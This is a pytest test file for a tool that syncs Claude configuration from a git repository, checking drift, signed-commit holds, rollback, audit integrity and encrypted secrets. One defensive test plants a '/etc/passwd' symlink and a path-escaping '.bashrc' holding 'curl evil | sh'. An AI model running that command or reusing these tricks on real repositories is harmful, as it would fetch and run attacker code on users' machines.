"""reconcile_config, detect_drift and the audit trail against real git (a bare remote, a clone, real commits,
SSH-signed ones) and Claude's config in a throwaway HOME, through the real CLI: what is applied, kept as drift,
held back, refused and rolled back, with the documented exit status and one line each. No Docker here: the
smoke run with the session image is tested in test_e2e_gitops.py."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from claude_docker import exitcodes
from gitrepo import Repo, git, signing_keys, ssh_signed

SETTINGS = {"permissions": {"deny": ["Read(./.env)"], "ask": ["Bash(git push:*)"]}, "model": "team-model"}


@pytest.fixture
def team(git_env, tmp_path):
    """The team's repository and a workstation following it: HOME, state dir, `gitops init` done."""
    repo = Repo(tmp_path / "team")
    ws = Workstation(git_env, tmp_path / "state", repo)
    return repo, ws


class Workstation:
    def __init__(self, home: Path, state: Path, repo: Repo):
        self.home, self.state, self.repo = home, state, repo
        self.config = home / ".claude"
        self.env = {k: v for k, v in os.environ.items() if not k.startswith(("CLAUDE_", "SOPS_"))}
        self.env.update(HOME=str(home), CLAUDE_DOCKER_STATE_DIR=str(state), CLAUDE_DOCKER_BACKUP_INTERVAL="0",
                        CLAUDE_DOCKER_BACKGROUND_FLUSH="0", NO_COLOR="1")

    def cli(self, *args: str, check: int | None = 0, timeout: float = 120,
            cwd: Path | None = None) -> subprocess.CompletedProcess:
        done = subprocess.run([sys.executable, "-m", "claude_docker", *args], env=self.env, capture_output=True,
                              text=True, timeout=timeout, cwd=cwd)
        assert "Traceback" not in done.stderr, done.stderr
        if check is not None:
            assert done.returncode == check, done.stdout + done.stderr
        return done

    def init(self, *args: str) -> None:
        self.cli("gitops", "init", str(self.repo.remote), "--no-smoke", *args)

    def reconcile(self, *args: str, check: int | None = 0) -> dict:
        done = self.cli("gitops", "reconcile", "--json", *args, check=check)
        return json.loads(done.stdout)

    def drift(self, *args: str, check: int | None = None) -> tuple[int, dict]:
        done = self.cli("gitops", "drift", "--json", *args, check=check)
        return done.returncode, json.loads(done.stdout)

    def audit(self) -> list[dict]:
        return json.loads(self.cli("gitops", "audit", "--json").stdout)

    def settings(self) -> dict:
        return json.loads((self.config / "settings.json").read_text())

    def claude_json(self) -> dict:
        return json.loads((self.home / ".claude.json").read_text())


def files(settings: dict | None = None, **more: str) -> dict[str, str]:
    found = {"claude/settings.json": json.dumps(settings if settings is not None else SETTINGS, indent=2)}
    found.update({k.replace("__", "/").replace("_md", ".md"): v for k, v in more.items()})
    return found


def test_a_revision_is_applied_and_the_users_own_keys_stay(team):
    repo, ws = team
    ws.config.mkdir()
    (ws.config / "settings.json").write_text(json.dumps({"theme": "dark", "permissions": {"allow": ["Bash(ls)"]}}))
    rev = repo.commit({**files(), "claude/CLAUDE.md": "Team rules.\n", "README.md": "not managed"})
    ws.init()
    report = ws.reconcile()
    assert report["result"] == "applied" and report["revision"] == rev
    assert ws.settings() == {"theme": "dark", "permissions": {"allow": ["Bash(ls)"], **SETTINGS["permissions"]},
                             "model": "team-model"}
    assert (ws.config / "CLAUDE.md").read_text() == "Team rules.\n"
    assert not (ws.config / "README.md").exists()
    assert sorted(report["applied"]) == ["CLAUDE.md", "settings.json: model", "settings.json: permissions.ask",
                                         "settings.json: permissions.deny"]
    # Nothing new: the second run reads the record alone, and says so.
    again = ws.reconcile()
    assert again["result"] == "in-sync" and again["applied"] == []
    kinds = [e["kind"] for e in ws.audit()]
    assert kinds == ["apply"]
    entry = ws.audit()[0]
    assert entry["revision"] == rev and entry["author"].startswith("Test Author") and entry["result"] == "applied"
    assert all(i["digest"].startswith("hmac-sha256:") for i in entry["items"])
    assert ws.cli("gitops", "audit", "--verify").returncode == 0
    assert ws.drift(check=0)[1]["items"] == []


def test_local_edits_are_kept_as_drift_and_force_or_self_heal_overwrite(team):
    repo, ws = team
    repo.commit(files())
    ws.init()
    ws.reconcile()
    mine = ws.settings()
    mine["model"] = "my-model"
    (ws.config / "settings.json").write_text(json.dumps(mine))
    code, found = ws.drift()
    assert code == 1 and found["items"] == [{"item": "settings.json: model", "direction": "local"}]
    # A new revision changing another key is applied; the user's edit stays, reported.
    repo.commit(files({**SETTINGS, "permissions": {"deny": ["Read(./.env)", "Read(./secrets/**)"]}}))
    report = ws.reconcile()
    assert report["applied"] == ["settings.json: permissions.deny"]
    assert {"item": "settings.json: model", "direction": "local"} in report["drift"]
    assert ws.settings()["model"] == "my-model"
    assert ws.settings()["permissions"]["ask"] == SETTINGS["permissions"]["ask"]  # dropped, not pruned
    # The repository changes the same key: both sides changed, still kept.
    tighter = {"deny": ["Read(./.env)", "Read(./secrets/**)"]}
    repo.commit(files({**SETTINGS, "permissions": tighter, "model": "team-model-2"}))
    report = ws.reconcile()
    assert {"item": "settings.json: model", "direction": "both"} in report["drift"]
    assert ws.settings()["model"] == "my-model"
    assert any(e["kind"] == "drift" for e in ws.audit())
    # --force takes the repository's.
    report = ws.reconcile("--force")
    assert ws.settings()["model"] == "team-model-2" and report["drift"] == []
    assert ws.drift(check=0)[0] == 0
    # An unsigned commit may add deny rules, not take them away.
    repo.commit(files({**SETTINGS, "permissions": {"deny": ["Read(./.env)"]}, "model": "team-model-2"}))
    report = ws.reconcile()
    assert [h["item"] for h in report["held"]] == ["settings.json: permissions.deny"]
    assert ws.settings()["permissions"]["deny"] == tighter["deny"]
    repo.commit(files({**SETTINGS, "permissions": tighter, "model": "team-model-2"}))
    assert ws.reconcile()["held"] == []
    # self-heal overwrites a local-only change at the next reconcile, with no new revision.
    mine = ws.settings()
    mine["model"] = "again-mine"
    (ws.config / "settings.json").write_text(json.dumps(mine))
    ws.init("--self-heal")
    ws.reconcile()
    assert ws.settings()["model"] == "team-model-2"


def test_a_value_the_user_had_before_is_never_overwritten_by_the_first_apply(team):
    repo, ws = team
    ws.config.mkdir()
    (ws.config / "settings.json").write_text(json.dumps({"model": "mine"}))
    repo.commit(files())
    ws.init()
    report = ws.reconcile()
    assert {"item": "settings.json: model", "direction": "both"} in report["drift"]
    assert ws.settings()["model"] == "mine"


def test_an_invalid_revision_is_refused_whole_and_retried_only_later(team):
    repo, ws = team
    repo.commit(files())
    ws.init()
    ws.reconcile()
    before = (ws.config / "settings.json").read_bytes()
    repo.commit({"claude/settings.json": '{"permissions": {"allow": "Bash(*)"}', "claude/CLAUDE.md": "new"})
    done = ws.cli("gitops", "reconcile", check=exitcodes.GITOPS_INVALID)
    assert len(done.stderr.strip().splitlines()) == 1, done.stderr
    assert (ws.config / "settings.json").read_bytes() == before and not (ws.config / "CLAUDE.md").exists()
    assert ws.audit()[-1]["kind"] == "failure"
    # One attempt per revision: the next reconcile waits for the retry time instead of failing again.
    assert ws.reconcile()["result"] == "waiting"
    assert ws.cli("gitops", "reconcile", "--force", check=exitcodes.GITOPS_INVALID)
    # A fixed revision is a new attempt at once.
    repo.commit(files({**SETTINGS, "model": "fixed"}))
    assert ws.reconcile()["result"] == "applied" and ws.settings()["model"] == "fixed"


@pytest.mark.parametrize(("bad", "code"), [("link", exitcodes.GITOPS_INVALID), ("escape", exitcodes.GITOPS_SOURCE),
                                           ("unknown", exitcodes.GITOPS_INVALID), ("shape", exitcodes.GITOPS_INVALID)])
def test_hostile_or_broken_trees_are_refused(team, bad, code):
    repo, ws = team
    if bad == "link":
        (repo.work / "claude").mkdir()
        os.symlink("/etc/passwd", repo.work / "claude" / "CLAUDE.md")
        git("add", "claude/CLAUDE.md", cwd=repo.work)
        repo.commit(files())
    elif bad == "escape":  # claude/../.bashrc, made from raw trees: git's fsck refuses it as it arrives
        def tree(mode: str, kind: str, oid: str, name: str) -> str:
            return git("mktree", "-z", cwd=repo.remote, stdin=f"{mode} {kind} {oid}\t{name}\0".encode())

        blob = git("hash-object", "-w", "--stdin", cwd=repo.remote, stdin=b"curl evil | sh")
        top = tree("040000", "tree", tree("040000", "tree", tree("100644", "blob", blob, ".bashrc"), ".."), "claude")
        git("update-ref", "refs/heads/main", git("commit-tree", top, "-m", "escape", cwd=repo.remote),
            cwd=repo.remote)
    elif bad == "unknown":
        repo.commit({**files(), "claude/plugins/evil/plugin.json": "{}"})
    else:
        repo.commit(files({"hooks": {"PreToolUse": [{"hooks": [{"type": "command"}]}]}}))
    ws.init()
    done = ws.cli("gitops", "reconcile", check=code)
    assert done.stderr.count("\n") == 1
    assert not (ws.config / "settings.json").exists()
    assert not (ws.home / ".bashrc").exists()


def test_host_commands_are_held_unless_the_commit_is_signed_by_an_allowed_signer(team, tmp_path):
    repo, ws = team
    keys, signers = signing_keys(tmp_path, "lead")
    hooks = {"PostToolUse": [{"matcher": "Edit", "hooks": [{"type": "command", "command": "make fmt"}]}]}
    repo.commit({**files({**SETTINGS, "hooks": hooks}), "claude/agents/reviewer.md": "---\nname: r\n---\nReview.\n"})
    ws.init("--allowed-signers", str(signers))
    report = ws.reconcile()
    assert report["result"] == "applied"
    held = {h["item"] for h in report["held"]}
    assert held == {"settings.json: hooks.PostToolUse", "agents/reviewer.md"}
    assert "hooks" not in ws.settings() and not (ws.config / "agents").exists()
    assert ws.settings()["model"] == "team-model"  # the rest flowed
    assert {e["item"] for e in ws.audit() if e["kind"] == "hold"} == held
    # Signed by a key that is not allowed: still held.
    repo.commit({"claude/CLAUDE.md": "x"}, "by mallory", *ssh_signed(keys / "mallory"))
    assert {h["item"] for h in ws.reconcile()["held"]} == held
    # Signed by the lead: applied, and the signer is in the trail.
    repo.commit({"claude/CLAUDE.md": "y"}, "by the lead", *ssh_signed(keys / "lead"))
    report = ws.reconcile()
    assert report["held"] == []
    assert ws.settings()["hooks"] == hooks and (ws.config / "agents" / "reviewer.md").exists()
    applied = [e for e in ws.audit() if e["kind"] == "apply"]
    assert applied[-1]["signer"] == "lead@example.com" and applied[0]["signer"] is None


def test_trust_unsigned_commands_is_an_explicit_opt_in(team):
    repo, ws = team
    repo.commit(files({"statusLine": {"type": "command", "command": "echo hi"}}))
    ws.init("--trust-unsigned-commands")
    assert ws.reconcile()["held"] == []
    assert ws.settings()["statusLine"]["command"] == "echo hi"


def test_prune_is_opt_in_and_never_prunes_to_empty(team):
    repo, ws = team
    repo.commit({**files(), "claude/CLAUDE.md": "rules", "claude/output-styles/terse.md": "terse"})
    ws.init()
    ws.reconcile()
    repo.commit({"claude/output-styles/terse.md": None, "claude/settings.json": json.dumps({"model": "m"})})
    ws.reconcile()
    assert (ws.config / "output-styles" / "terse.md").exists()  # no prune: left, no longer managed
    assert ws.settings()["permissions"] == SETTINGS["permissions"]
    ws.init("--prune")
    repo.commit({"claude/CLAUDE.md": None}, "drop CLAUDE.md")
    report = ws.reconcile()
    assert "CLAUDE.md" in report["pruned"] and not (ws.config / "CLAUDE.md").exists()
    # A revision that manages nothing prunes nothing.
    repo.commit({"claude/settings.json": None}, "empty")
    report = ws.reconcile()
    assert report["pruned"] == [] and ws.settings() == {"model": "m", "permissions": SETTINGS["permissions"]}
    assert any("not pruning to empty" in n for n in report["notes"])


def test_a_force_push_is_applied_and_said(team):
    repo, ws = team
    repo.commit(files())
    ws.init()
    ws.reconcile()
    git("reset", "--quiet", "--hard", "HEAD~0", cwd=repo.work)
    git("commit", "--quiet", "--amend", "-m", "rewritten", cwd=repo.work)
    (repo.work / "claude" / "CLAUDE.md").write_text("after the rewrite")
    rev = repo.commit({"claude/CLAUDE.md": "after the rewrite"}, "rewritten", push="force")
    report = ws.reconcile()
    assert report["revision"] == rev and any("rewritten" in n for n in report["notes"])
    assert ws.audit()[-1]["rewritten"] is True


def test_an_unreachable_source_is_one_line_and_the_config_untouched(team, tmp_path):
    _, ws = team
    ws.config.mkdir()
    (ws.config / "settings.json").write_text('{"model": "mine"}')
    ws.cli("gitops", "init", str(tmp_path / "nowhere"), "--no-smoke")
    done = ws.cli("gitops", "reconcile", check=exitcodes.GITOPS_SOURCE)
    assert done.stderr.count("\n") == 1 and "nowhere" in done.stderr
    assert (ws.config / "settings.json").read_text() == '{"model": "mine"}'
    assert ws.audit()[-1]["kind"] == "failure"
    code, _ = ws.drift()
    assert code == 2


def test_no_source_set_up_is_one_line(team):
    _, ws = team
    done = ws.cli("gitops", "reconcile", check=exitcodes.GITOPS_SOURCE)
    assert "gitops init" in done.stderr and done.stderr.count("\n") == 1
    assert ws.drift()[0] == 2


def test_an_edited_audit_entry_is_found(team):
    repo, ws = team
    repo.commit(files())
    ws.init()
    ws.reconcile()
    repo.commit(files({"model": "x"}))
    ws.reconcile()
    trail = ws.state / "gitops" / "audit.jsonl"
    lines = trail.read_text().splitlines()
    lines[0] = lines[0].replace('"applied"', '"refused"')
    trail.write_text("\n".join(lines) + "\n")
    done = ws.cli("gitops", "audit", "--verify", check=exitcodes.GITOPS_AUDIT_BROKEN)
    assert "entry 1" in done.stderr


def test_gitops_never_writes_through_a_link_below_the_config_dir(team, tmp_path):
    repo, ws = team
    outside = tmp_path / "outside"
    outside.mkdir()
    ws.config.mkdir()
    os.symlink(outside, ws.config / "output-styles")  # planted where a session could share a dir
    repo.commit({**files(), "claude/output-styles/terse.md": "terse"})
    ws.init()
    done = ws.cli("gitops", "reconcile", check=exitcodes.FAILURE)
    assert "link" in done.stderr and done.stderr.count("\n") == 1
    assert list(outside.iterdir()) == []
    assert not (ws.config / "settings.json").exists()  # all or nothing


def test_status_says_what_is_followed(team):
    repo, ws = team
    rev = repo.commit(files())
    ws.init()
    ws.reconcile()
    status = json.loads(ws.cli("gitops", "status", "--json").stdout)
    assert status["revision"] == rev and status["loop_running"] is False and status["items"] == 3
    text = ws.cli("gitops", "status").stdout
    assert rev[:12] in text and "not running" in text


# ---- secrets ----

TOKEN = "ghp_s3cr3tTOKENvalue0123456789"


@pytest.fixture
def age_key(tmp_path) -> tuple[Path, str]:
    key = tmp_path / "age" / "keys.txt"
    key.parent.mkdir()
    subprocess.run(["age-keygen", "-o", str(key)], check=True, capture_output=True)
    public = next(line.split(": ")[1] for line in key.read_text().splitlines() if "public key" in line)
    return key, public


def encrypted(ws: Workstation, repo: Repo, doc: dict, recipient: str) -> str:
    plain = repo.work / "plain.json"
    plain.write_text(json.dumps(doc))
    out = repo.work / "claude" / "claude.sops.json"
    out.parent.mkdir(exist_ok=True)
    ws.cli("gitops", "encrypt", str(plain), "--age", recipient, "--output", str(out))
    plain.unlink()
    return out.read_text()


def test_sops_secrets_are_merged_and_never_shown(team, age_key):
    repo, ws = team
    key, public = age_key
    servers = {"mcpServers": {"github": {"type": "http", "url": "https://api.example.com/mcp",
                                         "headers": {"Authorization": f"Bearer {TOKEN}"}}}}
    repo.commit({**files(), "claude/claude.sops.json": encrypted(ws, repo, servers, public)})
    assert TOKEN not in (repo.work / "claude" / "claude.sops.json").read_text()
    (ws.home / ".claude.json").write_text(json.dumps({"numStartups": 3, "mcpServers": {"mine": {"command": "x"}}}))
    ws.env["SOPS_AGE_KEY_FILE"] = str(key)
    ws.init()
    held = ws.reconcile()  # an MCP server is where data goes: held without a signed commit
    assert [h["item"] for h in held["held"]] == [".claude.json: mcpServers.github"]
    assert TOKEN not in json.dumps(held)
    ws.init("--trust-unsigned-commands")
    report = ws.reconcile()
    assert ws.claude_json()["mcpServers"] == {"mine": {"command": "x"}, **servers["mcpServers"]}
    assert ws.claude_json()["numStartups"] == 3
    assert ".claude.json: mcpServers.github" in report["applied"]
    # The token is nowhere but in ~/.claude.json.
    for path in [*ws.state.rglob("*"), ws.home / ".claude-docker-events.jsonl"]:
        if path.is_file():
            assert TOKEN.encode() not in path.read_bytes(), path
    assert TOKEN not in json.dumps(report)
    # What sops itself writes, we read (the other direction is test_gitops_sops.py's).
    assert ws.drift(check=0)[0] == 0


def test_a_wrong_key_or_a_tampered_file_is_refused_and_nothing_applied(team, age_key, tmp_path):
    repo, ws = team
    key, public = age_key
    text = encrypted(ws, repo, {"mcpServers": {"s": {"type": "http", "url": "https://x.example"}}}, public)
    repo.commit({**files(), "claude/claude.sops.json": text})
    other = tmp_path / "other.txt"
    subprocess.run(["age-keygen", "-o", str(other)], check=True, capture_output=True)
    ws.env["SOPS_AGE_KEY_FILE"] = str(other)
    ws.init()
    done = ws.cli("gitops", "reconcile", check=exitcodes.GITOPS_SECRETS)
    assert done.stderr.count("\n") == 1 and not (ws.config / "settings.json").exists()
    ws.env["SOPS_AGE_KEY_FILE"] = str(key)
    doc = json.loads(text)
    doc["mcpServers"]["s"]["url"], doc["mcpServers"]["s"]["type"] = doc["mcpServers"]["s"]["type"], \
        doc["mcpServers"]["s"]["url"]
    repo.commit({"claude/claude.sops.json": json.dumps(doc)}, "tampered")
    done = ws.cli("gitops", "reconcile", check=exitcodes.GITOPS_SECRETS)
    assert done.stderr.count("\n") == 1 and not (ws.config / "settings.json").exists()


def test_check_refuses_plaintext_secrets_as_a_pre_commit_hook(team, age_key):
    repo, ws = team
    _key, public = age_key

    def check() -> subprocess.CompletedProcess:
        """What a pre-commit hook sees: the index (staged), not the working tree."""
        git("add", "-A", cwd=repo.work)
        return ws.cli("gitops", "check", cwd=repo.work, check=None)

    (repo.work / "claude").mkdir()
    (repo.work / "claude" / "settings.json").write_text(json.dumps(SETTINGS))
    assert check().returncode == 0
    (repo.work / "claude" / "claude.json").write_text(json.dumps(
        {"mcpServers": {"gh": {"type": "http", "url": "https://x", "headers": {"Authorization": TOKEN}}}}))
    done = check()
    assert done.returncode == exitcodes.GITOPS_INVALID and "Authorization" in done.stderr
    assert TOKEN not in done.stderr
    # Staged with the token, then cleaned in the working tree only: the commit would still hold it.
    (repo.work / "claude" / "claude.json").write_text("{}")
    done = ws.cli("gitops", "check", cwd=repo.work, check=None)
    assert done.returncode == exitcodes.GITOPS_INVALID and "Authorization" in done.stderr
    (repo.work / "claude" / "claude.json").unlink()
    (repo.work / "claude" / "claude.sops.json").write_text(json.dumps({"mcpServers": {}}))
    done = check()
    assert done.returncode == exitcodes.GITOPS_INVALID and "claude.sops.json" in done.stderr
    # Encrypted, but by a rule that leaves the token out (encrypted_regex): still plaintext.
    plain = repo.work / "partial.json"
    plain.write_text(json.dumps({"mcpServers": {"s": {"type": "http", "url": "https://x",
                                                      "headers": {"Authorization": TOKEN}}}}))
    (repo.work / ".sops.yaml").write_text(f"creation_rules:\n  - encrypted_regex: ^url$\n    age: {public}\n")
    ws.cli("gitops", "encrypt", str(plain), "--output", str(repo.work / "claude" / "claude.sops.json"), cwd=repo.work)
    plain.unlink()
    done = check()
    assert done.returncode == exitcodes.GITOPS_INVALID and "headers.Authorization" in done.stderr, done.stderr
    (repo.work / "claude" / "claude.sops.json").write_text(
        encrypted(ws, repo, {"mcpServers": {"s": {"type": "http", "url": "https://x"}}}, public))
    (repo.work / ".sops.yaml").write_text(f"creation_rules:\n  - path_regex: secrets/.*$\n    age: {public}\n")
    (repo.work / "secrets").mkdir()
    (repo.work / "secrets" / "db.json").write_text('{"password": "hunter2"}')
    (repo.work / "secrets" / "prod.env").write_text("PASSWORD=hunter2\n")
    done = check()
    assert done.returncode == exitcodes.GITOPS_INVALID and "secrets/db.json" in done.stderr
    assert "secrets/prod.env" in done.stderr and "hunter2" not in done.stderr
    (repo.work / "secrets" / "prod.env").unlink()
    # (sops' rule: .sops.yaml is found from the working directory up)
    ws.cli("gitops", "encrypt", "--in-place", "secrets/db.json", cwd=repo.work)
    done = check()
    assert done.returncode == 0, done.stderr


def test_drift_with_fetch_sees_a_new_revision_as_repo_changes(team):
    repo, ws = team
    repo.commit(files())
    ws.init()
    ws.reconcile()
    repo.commit(files({**SETTINGS, "model": "next"}))
    assert ws.drift(check=0)[0] == 0  # no network: the mirror still has the old revision
    code, found = ws.drift("--fetch")
    assert code == 1 and found["items"] == [{"item": "settings.json: model", "direction": "repo"}]


# ---- what a hostile review found ----

def test_a_write_failing_midway_undoes_the_apply_and_is_audited(team, tmp_path):
    repo, ws = team
    os.symlink(tmp_path / "gone" / "claude.json", ws.home / ".claude.json")  # a dotfiles link to nowhere
    repo.commit({**files(), "claude/CLAUDE.md": "rules", "claude/claude.json": json.dumps({"editorMode": "vim"})})
    ws.init()
    done = ws.cli("gitops", "reconcile", check=exitcodes.GITOPS_ROLLED_BACK)
    assert done.stderr.count("\n") == 1 and "claude.json" in done.stderr
    assert not (ws.config / "CLAUDE.md").exists() and not (ws.config / "settings.json").exists()
    assert not (ws.state / "gitops" / "journal.json").exists()
    assert ws.audit()[-1]["kind"] == "rollback"


def test_a_signed_commit_pushed_back_over_a_rewrite_holds_its_host_commands(team, tmp_path):
    repo, ws = team
    keys, signers = signing_keys(tmp_path, "lead")
    hook = {"Stop": [{"hooks": [{"type": "command", "command": "old-hook"}]}]}
    old = repo.commit(files({**SETTINGS, "hooks": hook}), "old", *ssh_signed(keys / "lead"))
    repo.commit(files(), "hook removed", *ssh_signed(keys / "lead"))
    ws.init("--allowed-signers", str(signers))
    ws.reconcile()
    git("reset", "--quiet", "--hard", old, cwd=repo.work)
    git("push", "--quiet", "--force", "origin", "HEAD:main", cwd=repo.work)
    report = ws.reconcile()
    assert [h["item"] for h in report["held"]] == ["settings.json: hooks.Stop"]
    assert "hooks" not in ws.settings()
    ws.reconcile("--force")
    assert ws.settings()["hooks"] == hook


def test_an_unsigned_rollout_plan_is_held(team):
    repo, ws = team
    repo.commit({**files(), "rollout.json": json.dumps({"image": "some/image:2"})})
    ws.init()
    report = ws.reconcile()
    assert [h["item"] for h in report["held"]] == ["rollout.json"]
    assert not (ws.state / "rollout" / "state.json").exists()


def test_json_nested_too_deep_is_refused_not_a_crash(team):
    repo, ws = team
    repo.commit({"claude/settings.json": '{"x": ' + "[" * 900 + "]" * 900 + "}"})
    ws.init()
    done = ws.cli("gitops", "reconcile", check=exitcodes.GITOPS_INVALID)
    assert "nested deeper" in done.stderr and done.stderr.count("\n") == 1


@pytest.mark.parametrize("damage", ['{"items": {"x": 1}}', '{"items": {"[1]": {"repo": null}}}', "[]", "{"])
def test_a_damaged_record_is_one_line(team, damage):
    repo, ws = team
    repo.commit(files())
    ws.init()
    ws.reconcile()
    (ws.state / "gitops" / "record.json").write_text(damage)
    done = ws.cli("gitops", "reconcile", check=exitcodes.GITOPS_SOURCE)
    assert "record" in done.stderr and done.stderr.count("\n") == 1
    assert ws.drift()[0] == 2


def test_self_heal_leaves_a_held_item_alone_instead_of_holding_it_every_cycle(team):
    repo, ws = team
    repo.commit(files({**SETTINGS, "statusLine": {"type": "command", "command": "team-line"}}))
    ws.init("--trust-unsigned-commands")
    ws.reconcile()  # applied while trusted
    ws.init("--self-heal")  # no longer: a heal of it would be held
    ws.reconcile()
    ws.config.joinpath("settings.json").write_text(json.dumps({**ws.settings(), "statusLine": "mine"}))
    first = ws.reconcile()
    assert [h["item"] for h in first["held"]] == ["settings.json: statusLine"]
    assert ws.settings()["statusLine"] == "mine"
    trail = len(ws.audit())
    for _ in range(3):
        again = ws.reconcile()
        assert again["result"] == first["result"]
    assert len(ws.audit()) == trail


def test_a_rollout_plan_taken_from_a_trusted_commit_is_not_held_by_a_later_unsigned_one(team):
    repo, ws = team
    repo.commit({**files(), "rollout.json": json.dumps({"image": "claude-docker-test/absent:1"})})
    ws.init("--trust-unsigned-commands")
    assert any("rollout.json" in n for n in ws.reconcile()["notes"])  # waits for its image
    ws.init()
    repo.commit({"claude/CLAUDE.md": "unrelated"})
    assert ws.reconcile()["held"] == []
    repo.commit({"rollout.json": json.dumps({"image": "claude-docker-test/absent:2"})})
    assert [h["item"] for h in ws.reconcile()["held"]] == ["rollout.json"]
